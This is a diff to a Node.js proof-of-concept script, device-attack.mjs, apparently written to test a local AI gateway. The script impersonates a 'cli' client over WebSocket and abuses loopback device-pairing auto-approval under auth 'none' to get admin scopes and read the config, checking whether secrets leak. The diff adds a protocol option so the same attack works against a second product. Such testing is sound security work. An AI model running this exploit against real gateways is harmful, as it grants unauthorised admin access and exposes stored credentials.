@@ -5,15 +5,19 @@
 // device pairing from loopback, so with auth "none" this gets admin and the resolved secrets.
 //
 //   node device-attack.mjs --url ws://127.0.0.1:PORT [--origin https://evil.example] [--ws-from DIR]
-//                          [--secret VALUE]... [--timeout-ms N]
+//                          [--protocol 3|4] [--secret VALUE]... [--timeout-ms N]
 // --ws-from: a folder from which `ws` resolves (the gateway's own node_modules in a container); else this
-// script's. Prints one JSON line: { connected, scopes?, configRead, leaked, error? }; exit 0 unless misused.
+// script's. --protocol: the highest protocol offered (the lowest is 3): 3 for Clawdbot (the default); 4 for
+// OpenClaw, which refuses a `cli` client at protocol 3 ("protocol mismatch") before it looks at auth at all,
+// so at 3 the attack would prove nothing there. The device proof is signed as both accept it (payload v2).
+// Prints one JSON line: { connected, scopes?, configRead, leaked, error?, code? } (code: the refusal's
+// details.code); exit 0 unless misused.
 import { createHash, generateKeyPairSync, sign } from "node:crypto";
 import { createRequire } from "node:module";
 import { join } from "node:path";
 
 const args = process.argv.slice(2);
-const opt = { secrets: [], timeoutMs: 10_000 };
+const opt = { secrets: [], timeoutMs: 10_000, protocol: 3 };
 for (let i = 0; i < args.length; i += 2) {
   const [flag, value] = [args[i], args[i + 1]];
   if (value === undefined) throw new Error(`${flag} needs a value`);
@@ -22,6 +26,7 @@ for (let i = 0; i < args.length; i += 2) {
   else if (flag === "--ws-from") opt.wsFrom = value;
   else if (flag === "--secret") opt.secrets.push(value);
   else if (flag === "--timeout-ms") opt.timeoutMs = Number(value);
+  else if (flag === "--protocol") opt.protocol = Number(value);
   else throw new Error(`unknown flag ${flag}`);
 }
 if (!opt.url) throw new Error("--url is required");
@@ -64,7 +69,7 @@ ws.on("message", (data) => {
         method: "connect",
         params: {
           minProtocol: 3,
-          maxProtocol: 3,
+          maxProtocol: opt.protocol,
           client: { id: "cli", version: "attack", platform: process.platform, mode: "cli" },
           role: "operator",
           scopes,
@@ -74,7 +79,7 @@ ws.on("message", (data) => {
       }),
     );
   } else if (frame.type === "res" && frame.id === "c1") {
-    if (!frame.ok) finish({ error: frame.error?.message ?? "connect refused" });
+    if (!frame.ok) finish({ error: frame.error?.message ?? "connect refused", ...(frame.error?.details?.code ? { code: frame.error.details.code } : {}) });
     result.connected = true;
     result.scopes = frame.payload?.auth?.scopes ?? frame.payload?.scopes;
     ws.send(JSON.stringify({ type: "req", id: "g1", method: "config.get", params: {} }));
